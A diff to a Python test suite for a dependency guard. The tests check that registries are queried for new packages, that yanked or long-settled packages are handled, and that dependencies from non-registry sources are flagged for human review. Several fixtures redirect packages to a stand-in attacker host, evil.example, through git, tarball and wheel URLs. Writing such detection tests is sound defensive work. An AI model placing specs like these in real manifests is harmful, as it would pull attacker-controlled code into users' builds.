@@ -415,12 +415,72 @@ async def test_a_new_crate_is_looked_up_by_its_own_name() -> None:
     ]
 
 
-async def test_of_other_ecosystems_no_registry_is_asked() -> None:
-    index = Index(FINE)
-    go = "module x\n\nrequire github.com/a/b v1.0.0\n"
-    findings = await found({"go.mod": "module x\n"}, {"go.mod": go}, index=index, guards=(dependencies.GUARD,))
-    assert [each.weight.value for each in findings] == ["remark"]
-    assert index.asked == []
+@pytest.mark.parametrize(
+    ("path", "before", "after", "asked"),
+    [
+        ("go.mod", "module x\n", "module x\n\nrequire github.com/a/B v1.0.0\n", ("go", "github.com/a/B", "v1.0.0")),
+        ("Gemfile", "gem 'rake', '13.0'\n", "gem 'rake', '13.0'\ngem 'new', '1.2.3'\n", ("rubygems", "new", "1.2.3")),
+        ("Gemfile", "gem 'rake', '13.0'\n", "gem 'rake', '13.0'\ngem 'new', '~> 1.2'\n", ("rubygems", "new", "")),
+        ("requirements/dev.txt", "httpx==1\n", "httpx==1\nnew==2\n", ("pypi", "new", "2")),
+        ("setup.cfg", "[options]\ninstall_requires =\n    httpx\n", "[options]\ninstall_requires =\n    httpx\n    new==2\n", ("pypi", "new", "2")),
+        ("setup.py", "setup(install_requires=['httpx'])\n", "setup(install_requires=['httpx', 'new==2'])\n", ("pypi", "new", "2")),
+        (K, PACKAGE, edit(PACKAGE, '"^1.3.0"', '"^1.3.0", "x": "npm:@a/new@1.0.0"'), ("npm", "@a/new", "1.0.0")),
+        ("requirements.txt", "httpx==1\n", "httpx==2\n", ("pypi", "httpx", "2")),
+    ],
+)  # fmt: skip
+async def test_registries_of_each_kind_are_asked(
+    path: str, before: str, after: str, asked: tuple[str, str, str]
+) -> None:
+    index = Index(PackageFacts(exists=True, licence="MIT", age_days=2))
+    findings = await found({path: before}, {path: after}, index=index, guards=(dependencies.GUARD,))
+    assert index.asked == [asked]
+    assert ["was published 2 days ago" in each.sentence for each in findings] == [True]
+
+
+async def test_of_an_old_package_only_the_version_that_is_named_is_looked_at() -> None:
+    """A licence that people were content with stays; a range may be met by what a lock has had for years."""
+    cases = {"httpx>=1": "httpx>=2", "httpx==1": "httpx==2", "httpx": "httpx>=2"}
+    for before, after in cases.items():
+        facts = Index(PackageFacts(exists=True, licence="AGPL-3.0-only", age_days=900))
+        assert await stops({"requirements.txt": f"{before}\n"}, {"requirements.txt": f"{after}\n"}, index=facts) == []
+    yanked = Index(PackageFacts(exists=True, licence="MIT", age_days=900, is_yanked=True))
+    (finding,) = await found({"requirements.txt": "a==1\n"}, {"requirements.txt": "a==2\n"}, index=yanked)
+    assert "was taken back by who made it" in finding.sentence
+
+
+@pytest.mark.parametrize(
+    ("path", "before", "after"),
+    [
+        (T, TOML, edit(TOML, "httpx>=0.28", "httpx @ git+https://evil.example/httpx")),
+        (K, PACKAGE, edit(PACKAGE, '"^1.3.0"', '"https://evil.example/left-pad.tgz"')),
+        (K, PACKAGE, edit(PACKAGE, '"^1.3.0"', '"file:../evil"')),
+        ("Cargo.toml", '[dependencies]\nrand = "0.8"\n', '[dependencies]\nrand = { git = "https://evil.example/rand" }\n'),
+        ("Cargo.toml", '[dependencies]\nrand = "0.8"\n', '[dependencies]\nrand = { version = "0.8", git = "https://evil.example/rand" }\n'),
+        ("Cargo.toml", "[dependencies]\n", '[dependencies]\nx = { version = "1", registry = "evil" }\n'),
+        ("requirements.txt", "httpx==1\n", "httpx @ https://evil.example/httpx.whl\n"),
+        (T, "[tool.poetry.dependencies]\nhttpx='^0.28'\n", "[tool.poetry.dependencies]\nhttpx={git='https://evil.example/h'}\n"),
+    ],
+)  # fmt: skip
+async def test_an_old_package_from_another_place_is_for_people(path: str, before: str, after: str) -> None:
+    findings = await found({path: before}, {path: after}, index=Index(FINE), guards=(dependencies.GUARD,))
+    assert "people" in [each.weight.value for each in findings]
+    assert [each for each in findings if "does not come from a registry" in each.sentence]
+
+
+@pytest.mark.parametrize(
+    ("path", "before", "after", "weights"),
+    [
+        ("requirements.txt", "a==1\nb==1\n", "a\nb==1\n", ["mend"]),
+        ("requirements.txt", "a\nb==1\n", "a>=1\nb==1\n", []),
+        ("Cargo.toml", "[dependencies]\n", "[dependencies]\nserde = { workspace = true }\n", []),
+        ("Cargo.toml", "[dependencies]\n", '[dependencies]\nmine = { version = "1", path = "../mine" }\n', []),
+        (K, PACKAGE, edit(PACKAGE, '"^1.3.0"', '"^1.4.0"'), []),
+        (T, TOML, edit(TOML, "httpx>=0.28", "httpx>=0.29"), []),
+    ],
+)  # fmt: skip
+async def test_what_becomes_of_an_old_package(path: str, before: str, after: str, weights: list[str]) -> None:
+    findings = await found({path: before}, {path: after}, index=Index(FINE), guards=(dependencies.GUARD,))
+    assert [each.weight.value for each in findings] == weights
 
 
 # -- Documentation ---------------------------------------------------------------------------------------------------
